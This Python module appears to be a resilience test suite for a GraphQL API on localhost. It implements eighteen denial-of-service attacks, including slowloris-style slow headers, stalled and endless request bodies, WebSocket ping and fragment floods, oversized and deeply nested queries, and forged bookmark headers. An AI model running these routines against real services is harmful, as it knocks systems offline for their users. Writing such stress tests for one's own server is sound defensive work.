"""Attacks on the API by one client without any right: each returns what it achieved."""

from __future__ import annotations

import base64
import http.client
import json
import socket
import struct
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterable
from contextlib import suppress
from dataclasses import dataclass

HOST = b"Host: localhost\r\n"
KEY = b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
UPGRADE = b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
PROTOCOL = b"Sec-WebSocket-Protocol: graphql-transport-ws\r\n"
TEXT, PING, CONTINUATION = 1, 9, 0
LARGE = 7_000_000


@dataclass(frozen=True)
class Target:
    """Where the API listens, and how long an attack lasts."""

    port: int
    seconds: float

    def connect(self) -> socket.socket:
        line = socket.create_connection(("127.0.0.1", self.port), 10)
        line.settimeout(self.seconds)
        return line

    def ask(self, body: bytes, **headers: str) -> str:
        """The status of one POST, or the kind of its failure."""
        line = http.client.HTTPConnection("127.0.0.1", self.port, timeout=100)
        sent = {"content-type": "application/json", **headers}
        try:
            line.request("POST", "/graphql", body, sent)
            answer = line.getresponse()
            answer.read()
            return str(answer.status)
        except (OSError, http.client.HTTPException) as error:
            return type(error).__name__
        finally:
            line.close()


def together(count: int, work: Callable[[int], str]) -> str:
    """`work` in as many threads: how often it ended in which way."""
    outcomes: Counter[str] = Counter()
    threads = [
        threading.Thread(target=lambda n=n: outcomes.update([work(n)]))
        for n in range(count)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return ", ".join(f"{count} x {outcome}" for outcome, count in outcomes.items())


def statuses(answers: Iterable[str]) -> str:
    return str(dict(Counter(answers)))


def push(line: socket.socket, data: bytes, size: int) -> int:
    """Send `data` again and again, without reading, until `size` bytes or an error."""
    sent = 0
    with suppress(OSError):
        while sent < size:
            sent += line.send(data)
    return sent


def hold(target: Target, count: int, data: bytes, trickle: bytes = b"") -> str:
    """Open connections, send `data` on each, and hold them."""
    lines = []
    with suppress(OSError):
        for _ in range(count):
            line = target.connect()
            lines.append(line)
            with suppress(OSError):
                line.sendall(data)
    end = time.monotonic() + target.seconds
    while time.monotonic() < end:
        time.sleep(1)
        for line in lines if trickle else []:
            with suppress(OSError):
                line.send(trickle)
    open_lines = sum(map(is_open, lines))
    for line in lines:
        line.close()
    return f"{len(lines)} connections, {open_lines} open after {target.seconds:.0f} s"


def is_open(line: socket.socket) -> bool:
    line.setblocking(False)
    try:
        while line.recv(1 << 20):
            pass
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False


def pipelined(target: Target) -> str:
    request = b"GET /livez HTTP/1.1\r\n" + HOST + b"\r\n"
    with target.connect() as line:
        sent = push(line, request * 1_000, 32_000_000)
    return f"{sent:,} bytes of pipelined requests"


def large_variables(target: Target) -> str:
    def ask(number: int) -> str:
        text = f"query($i: [ID!]!) {{ a{number}: nodes(ids: $i) {{ id }} }}"
        ids = [f"{number}" + "x" * LARGE]
        return target.ask(json.dumps({"query": text, "variables": {"i": ids}}).encode())

    return together(4, lambda n: statuses(ask(4 * turn + n) for turn in range(10)))


def many_documents(target: Target) -> str:
    fields = " ".join(["key name"] * 330)  # as many as a document in the cache has

    def ask(number: int) -> str:
        text = (
            f"{{ organisations(first: 1) {{ nodes {{ a{number}: key {fields} }} }} }}"
        )
        return target.ask(json.dumps({"query": text}).encode())

    return together(2, lambda n: statuses(ask(2 * turn + n) for turn in range(150)))


def many_plans(target: Target) -> str:
    roots = ("organisations", "people", "teams", "exchanges", "contracts")

    def ask(number: int) -> str:
        fields = " ".join(
            f"a{n}: {roots[n % 5]}(filter: {{ or: ["
            f'{{ key: {{ eq: "{number}" }} }}, {{ key: {{ ne: "{n}" }} }}'
            f"] }}, first: 1) {{ nodes {{ a{number}: key }} }}"
            for n in range(15)
        )
        return target.ask(json.dumps({"query": f"{{ {fields} }}"}).encode())

    return together(8, lambda n: statuses(ask(8 * turn + n) for turn in range(50)))


def unread_exports(target: Target) -> str:
    request = b"GET /export/organisations.jsonl HTTP/1.1\r\n" + HOST + b"\r\n"
    return hold(target, 110, request)


def unread_answers(target: Target) -> str:
    page = "organisations(first: 200) { nodes { key name description } }"
    text = "{" + " ".join(f"a{n}: {page}" for n in range(20)) + "}"
    body = json.dumps({"query": text}).encode()
    head = b"POST /graphql HTTP/1.1\r\n" + HOST + b"Content-Type: application/json\r\n"
    return hold(target, 60, head + b"Content-Length: %d\r\n\r\n" % len(body) + body)


def forged_bookmarks(target: Target) -> str:
    line = http.client.HTTPConnection("127.0.0.1", target.port, timeout=30)
    body = json.dumps({"query": "{ __typename }"}).encode()
    line.request("POST", "/graphql", body, {"content-type": "application/json"})
    mark = line.getresponse().headers["x-valuenet-bookmark"].split(",")[0]
    line.close()
    raw = base64.b64decode(mark.removeprefix("FB:"))
    later = base64.b64encode(raw[:19] + b"\xca\x7f\xff\xff\xff\x90").decode()
    text = json.dumps({"query": '{ organisation(key: "o1") { name } }'}).encode()
    started = time.monotonic()
    outcome = together(
        60, lambda n: target.ask(text, **{"x-valuenet-bookmark": f"FB:{later}"})
    )
    return f"{outcome} after {time.monotonic() - started:.0f} s"


def frame(code: int, data: bytes = b"", final: bool = True) -> bytes:
    """A frame of a client, with a mask of zeros."""
    size = len(data)
    length = bytes([128 | size]) if size < 126 else b"\xff" + struct.pack("!Q", size)
    return bytes([(128 if final else 0) | code]) + length + bytes(4) + data


def websocket(target: Target) -> socket.socket:
    line = target.connect()
    line.sendall(
        b"GET /graphql HTTP/1.1\r\n" + HOST + UPGRADE + KEY + PROTOCOL + b"\r\n"
    )
    line.recv(1_000)
    line.sendall(frame(TEXT, b'{"type": "connection_init"}'))
    line.recv(1_000)
    return line


def websocket_messages(target: Target) -> str:
    return flood(target, frame(TEXT, b'{"type": "ping"}'))


def websocket_pings(target: Target) -> str:
    return flood(target, frame(PING))


def flood(target: Target, data: bytes) -> str:
    with websocket(target) as line:
        sent = push(line, data * 1_000, 780_000 * len(data))
    return f"{sent // len(data):,} frames"


def websocket_fragments(target: Target) -> str:
    lines = [websocket(target) for _ in range(30)]
    sent = sum(
        push(line, frame(TEXT, bytes(900_000), False), 900_000) for line in lines
    )
    for _ in range(15):
        part = frame(CONTINUATION, bytes(900_000), False)
        sent += sum(push(line, part, 900_000) for line in lines)
    time.sleep(target.seconds)
    open_lines = sum(map(is_open, lines))
    for line in lines:
        line.close()
    return f"{sent:,} bytes in 30 messages, {open_lines} connections still open"


def large_headers(target: Target) -> str:
    with target.connect() as line:
        line.sendall(b"GET /livez HTTP/1.1\r\n" + HOST + b"X-Filler: ")
        sent = push(line, b"a" * 100_000, 100_000_000)
    return f"{sent:,} bytes of headers"


def slow_heads(target: Target) -> str:
    head = b"GET /livez HTTP/1.1\r\n" + HOST + b"X: "
    return hold(target, 1_000, head, trickle=b"a")


def stalled_bodies(target: Target) -> str:
    head = b"POST /graphql HTTP/1.1\r\n" + HOST + b"Content-Type: application/json\r\n"
    body = b"Content-Length: 7900000\r\n\r\n" + b" " * 7_800_000
    return together(100, lambda n: hold(target, 1, head + body))


def idle_connections(target: Target) -> str:
    return hold(target, 1_000, b"GET /livez HTTP/1.1\r\n" + HOST + b"\r\n")


def endless_bodies(target: Target) -> str:
    with target.connect() as line:
        line.sendall(
            b"GET /livez HTTP/1.1\r\n" + HOST + b"Content-Length: 9999999999\r\n\r\n"
        )
        sent = push(line, b"a" * 100_000, 1_000_000_000)
    return f"{sent:,} bytes of a body that nobody reads"


def long_names(target: Target) -> str:
    body = json.dumps({"query": "{ " + "a" * 7_900_000 + " }"}).encode()
    return together(4, lambda _: statuses(target.ask(body) for _ in range(5)))


def long_documents(target: Target) -> str:
    spaces = (" " * 9_000 + "\n#" + "c" * 9_000 + "\n") * 430
    body = json.dumps({"query": "{ __typename " + spaces + " }"}).encode()
    return together(4, lambda _: statuses(target.ask(body) for _ in range(5)))


def nested_json(target: Target) -> str:
    body = b'{"query": "{ __typename }", "variables": {"a": [%s]}}'
    body %= b",".join([b"[%s]" % b",".join([b"[]"] * 9_000)] * 280)
    return together(4, lambda _: statuses(target.ask(body) for _ in range(5)))


ATTACKS = {
    attack.__name__: attack
    for attack in (
        pipelined,
        large_headers,
        slow_heads,
        idle_connections,
        stalled_bodies,
        endless_bodies,
        unread_answers,
        unread_exports,
        forged_bookmarks,
        websocket_messages,
        websocket_pings,
        websocket_fragments,
        large_variables,
        many_documents,
        many_plans,
        long_names,
        long_documents,
        nested_json,
    )
}
